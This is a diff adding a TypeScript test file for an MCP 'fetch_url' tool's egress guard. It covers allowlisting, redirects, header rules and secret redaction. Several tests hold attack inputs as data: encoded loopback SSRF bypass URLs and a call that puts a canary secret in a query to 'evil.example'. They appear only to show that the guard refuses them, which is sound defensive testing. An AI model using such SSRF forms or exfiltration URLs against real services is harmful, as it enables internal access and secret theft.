@@ -1,0 +1,229 @@
+/**
+ * `fetch_url` through a real MCP client: the same egress guard as
+ * `hookgate fetch`, refusals as tool errors, results redacted.
+ */
+import assert from "node:assert/strict";
+import { startRecordingServer } from "../support/recording_server.ts";
+import { startMcp, tempProject, textOf } from "../support/mcp_session.ts";
+
+const CANARY = "mcp-canary-secret-5f3a9c1e7b2d4086";
+
+function scratch() {
+  return tempProject(`WEBHOOK_SECRET=${CANARY}\n`);
+}
+
+function serverFixture(
+  answer: Parameters<typeof startRecordingServer>[0],
+): ReturnType<typeof startRecordingServer> & AsyncDisposable {
+  const server = startRecordingServer(answer);
+  return Object.assign(server, { [Symbol.asyncDispose]: () => server.close() });
+}
+
+function localEnv(port: number): Record<string, string> {
+  return { EGRESS_ALLOW_HOSTS: `http://localhost:${port}`, EGRESS_ALLOW_PRIVATE: "localhost" };
+}
+
+Deno.test("mcp fetch_url returns status, body and byte count of an allowlisted local server", async () => {
+  await using project = await scratch();
+  const dir = project.dir;
+  await using server = serverFixture(() => new Response("zen of the allowlist"));
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const result = await mcp.callOk("fetch_url", { url: `http://localhost:${port}/zen` });
+  assert.equal(result.ok, true);
+  assert.equal(result.status, 200);
+  assert.equal(result.body, "zen of the allowlist");
+  assert.equal(result.truncated, false);
+  assert.equal(result.bytes, 20);
+  assert.equal(server.requests[0]?.path, "/zen");
+  await mcp.close();
+  assert.equal(await mcp.exited, 0, "the server ends cleanly when the client closes stdin");
+});
+
+Deno.test("mcp fetch_url reports a non-2xx answer as a result with ok=false, not a tool error", async () => {
+  await using project = await scratch();
+  const dir = project.dir;
+  await using server = serverFixture(() => new Response("rate limited", { status: 429 }));
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
+  assert.notEqual(result.isError, true);
+  const content = result.structuredContent as Record<string, unknown>;
+  assert.equal(content.ok, false);
+  assert.equal(content.status, 429);
+  assert.equal(content.body, "rate limited");
+});
+
+Deno.test("mcp fetch_url cuts the body at max_bytes and says so", async () => {
+  await using project = await scratch();
+  const dir = project.dir;
+  await using server = serverFixture(() => new Response("y".repeat(5000)));
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const result = await mcp.callOk("fetch_url", {
+    url: `http://localhost:${port}/`,
+    max_bytes: 100,
+  });
+  assert.equal(result.body, "y".repeat(100));
+  assert.equal(result.truncated, true);
+});
+
+Deno.test("mcp fetch_url denies an unlisted host with a tool error naming it and the allowlist, no request", async () => {
+  await using project = await scratch();
+  const dir = project.dir;
+  await using server = serverFixture(() => new Response("must not be fetched"));
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({
+    cwd: dir,
+    args: ["--tools", "fetch"],
+    env: {
+      EGRESS_ALLOW_HOSTS: "api.github.com,api.weather.gov",
+      EGRESS_ALLOW_PRIVATE: "localhost",
+    },
+  });
+  const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
+  assert.equal(result.isError, true);
+  assert.match(
+    textOf(result),
+    /egress to 'localhost' denied; allowed: \["api\.github\.com","api\.weather\.gov"\]/,
+  );
+  assert.equal(server.requests.length, 0);
+});
+
+Deno.test("mcp fetch_url refuses SSRF forms of a loopback address and requests nothing", async () => {
+  await using project = await scratch();
+  const dir = project.dir;
+  await using server = serverFixture(() => new Response("internal data"));
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const forms = [
+    `http://127.0.0.1:${port}/`,
+    `http://2130706433:${port}/`,
+    `http://[::ffff:127.0.0.1]:${port}/`,
+    `http://localhost:${port}@127.0.0.1:${port}/`,
+    `http://localhost:${port}\\@127.0.0.1/`,
+  ];
+  for (const url of forms) {
+    const result = await mcp.call("fetch_url", { url });
+    assert.equal(result.isError, true, `${url} was not refused: ${textOf(result)}`);
+    assert.match(textOf(result), /denied/, url);
+    assert.doesNotMatch(textOf(result), /internal data/);
+  }
+  assert.equal(server.requests.length, 0);
+});
+
+Deno.test("mcp fetch_url refuses a redirect to an unlisted host and never reaches it", async () => {
+  await using project = await scratch();
+  const dir = project.dir;
+  let unlistedRequests = 0;
+  const unlisted = Deno.serve({ hostname: "127.0.0.2", port: 0, onListen() {} }, () => {
+    unlistedRequests++;
+    return new Response("reached the unlisted host");
+  });
+  await using _unlisted = { [Symbol.asyncDispose]: () => unlisted.shutdown() };
+  await using origin = serverFixture(() =>
+    new Response(null, {
+      status: 302,
+      headers: { location: `http://127.0.0.2:${unlisted.addr.port}/` },
+    })
+  );
+  const port = Number(new URL(origin.url).port);
+  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/go` });
+  assert.equal(result.isError, true);
+  assert.match(textOf(result), /egress to '127\.0\.0\.2' denied; allowed: \["http:\/\/localhost:/);
+  assert.doesNotMatch(textOf(result), /reached/);
+  assert.equal(origin.requests.length, 1);
+  assert.equal(unlistedRequests, 0);
+});
+
+Deno.test("mcp fetch_url never shows a secret hookgate knows, in a result, an error or stderr", async () => {
+  await using project = await scratch();
+  const dir = project.dir;
+  await using server = serverFixture(() =>
+    new Response(`leaked ${CANARY} and Authorization: Bearer ${CANARY}`)
+  );
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
+  const fetched = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
+  const denied = await mcp.call("fetch_url", { url: `https://evil.example/?q=${CANARY}` });
+  const malformed = await mcp.call("fetch_url", { url: 42, note: CANARY });
+  assert.equal(server.requests.length, 1, "the allowed fetch did reach the server");
+  assert.equal(denied.isError, true);
+  assert.equal(malformed.isError, true);
+  for (const result of [fetched, denied, malformed]) {
+    assert.doesNotMatch(JSON.stringify(result), new RegExp(CANARY));
+  }
+  assert.match(textOf(fetched), /leaked \*\*\*redacted\*\*\*/);
+  await mcp.close();
+  assert.doesNotMatch(mcp.stderr(), new RegExp(CANARY));
+  assert.deepEqual(mcp.protocolErrors(), [], "stdout carried protocol messages only");
+});
+
+Deno.test("mcp fetch_url sends a POST with the caller's headers and body", async () => {
+  await using project = await scratch();
+  await using server = serverFixture((request) =>
+    new Response(`${request.method} ${new TextDecoder().decode(request.body)}`)
+  );
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({
+    cwd: project.dir,
+    args: ["--tools", "fetch"],
+    env: localEnv(port),
+  });
+  const result = await mcp.callOk("fetch_url", {
+    url: `http://localhost:${port}/items`,
+    method: "POST",
+    headers: { "content-type": "application/json", "x-request-id": "r-1" },
+    body: '{"name":"widget"}',
+  });
+  assert.equal(result.body, 'POST {"name":"widget"}');
+  const seen = server.requests[0];
+  assert.equal(seen?.headers.get("content-type"), "application/json");
+  assert.equal(seen?.headers.get("x-request-id"), "r-1");
+  assert.match(seen?.headers.get("user-agent") ?? "", /^hookgate\//);
+});
+
+Deno.test("mcp fetch_url refuses a Host header, sending nothing", async () => {
+  await using project = await scratch();
+  await using server = serverFixture(() => new Response("must not be fetched"));
+  const port = Number(new URL(server.url).port);
+  await using mcp = await startMcp({
+    cwd: project.dir,
+    args: ["--tools", "fetch"],
+    env: localEnv(port),
+  });
+  const result = await mcp.call("fetch_url", {
+    url: `http://localhost:${port}/`,
+    headers: { Host: "internal.example" },
+  });
+  assert.equal(result.isError, true);
+  assert.match(textOf(result), /header 'Host' may not be set/);
+  assert.equal(server.requests.length, 0);
+});
+
+Deno.test("mcp fetch_url does not carry the caller's headers through a redirect to another origin", async () => {
+  await using project = await scratch();
+  await using other = serverFixture(() => new Response("other origin"));
+  const otherPort = Number(new URL(other.url).port);
+  await using origin = serverFixture(() =>
+    new Response(null, { status: 307, headers: { location: `http://localhost:${otherPort}/` } })
+  );
+  const port = Number(new URL(origin.url).port);
+  await using mcp = await startMcp({
+    cwd: project.dir,
+    args: ["--tools", "fetch"],
+    env: {
+      EGRESS_ALLOW_HOSTS: `http://localhost:${port},http://localhost:${otherPort}`,
+      EGRESS_ALLOW_PRIVATE: "localhost",
+    },
+  });
+  const result = await mcp.callOk("fetch_url", {
+    url: `http://localhost:${port}/`,
+    headers: { authorization: "Bearer for-the-first-host-only" },
+  });
+  assert.equal(result.body, "other origin");
+  assert.equal(result.redirects, 1);
+  assert.equal(origin.requests[0]?.headers.get("authorization"), "Bearer for-the-first-host-only");
+  assert.equal(other.requests[0]?.headers.get("authorization"), null);
+});
